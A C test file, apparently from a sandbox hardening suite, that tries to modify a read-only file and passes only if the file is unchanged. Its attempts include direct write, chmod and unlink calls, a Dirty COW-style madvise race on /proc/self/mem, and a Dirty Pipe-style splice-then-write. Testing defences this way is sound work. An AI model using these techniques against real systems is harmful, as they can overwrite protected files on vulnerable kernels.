// tries: to change a file that it may only read: opened for writing, through a mapping and /proc/self/mem, by the
//        race of private copies and dropped pages, by a pipe's pages (splice, then write)
// must: leave the file as it is
#include "../attack.h"

#include <pthread.h>
#include <sys/mman.h>

static char* map;
static volatile int over;

static void* drop(void* unused) {
  (void)unused;
  while (!over) madvise(map, 4096, MADV_DONTNEED);
  return NULL;
}

int main(int argc, char** argv) {
  const char* path = argc > 1 ? argv[1] : told("READ_ONLY_FILE");
  char before[64] = "", after[64] = "";
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0 || pread(fd, before, sizeof before - 1, 0) <= 0) {
    hole("cannot even read %s: %s", path, strerror(errno));
    return 1;
  }
  const int writable = open(path, O_RDWR | O_CLOEXEC);
  if (!must_fail("open for writing", writable)) {
    must_fail("truncate", truncate(path, 0));
    must_fail("chmod", chmod(path, 0666));
    must_fail("unlink", unlink(path));
  }
  const int mem = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
  char* shared = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
  if (shared != MAP_FAILED) {
    must_fail("make a shared mapping writable", mprotect(shared, 4096, PROT_READ | PROT_WRITE));
    must_fail("write a shared mapping by /proc/self/mem", pwrite(mem, "X", 1, (off_t)(uintptr_t)shared) > 0 ? 0 : -1);
  }
  map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
  pthread_t dropper;
  if (map != MAP_FAILED && pthread_create(&dropper, NULL, drop, NULL) == 0) {
    for (const int64_t end = now_ms() + 150; now_ms() < end;) {
      if (pwrite(mem, "X", 1, (off_t)(uintptr_t)map) < 0) break;
    }
    over = 1;
    pthread_join(dropper, NULL);
  }
  // The flag that once let a pipe's write reach the page of a file.
  int pipe_ends[2];
  if (pipe2(pipe_ends, O_NONBLOCK) == 0) {
    static char filler[4096];
    while (write(pipe_ends[1], filler, sizeof filler) > 0) {
    }
    while (read(pipe_ends[0], filler, sizeof filler) > 0) {
    }
    off64_t offset = 0;
    if (splice(fd, &offset, pipe_ends[1], NULL, 1, 0) == 1 && write(pipe_ends[1], "XXXX", 4) < 0) return 1;
  }
  if (pread(fd, after, sizeof after - 1, 0) > 0 && strcmp(before, after) == 0) {
    held("the file is as it was");
  } else {
    hole("the file was changed");
  }
  return done();
}
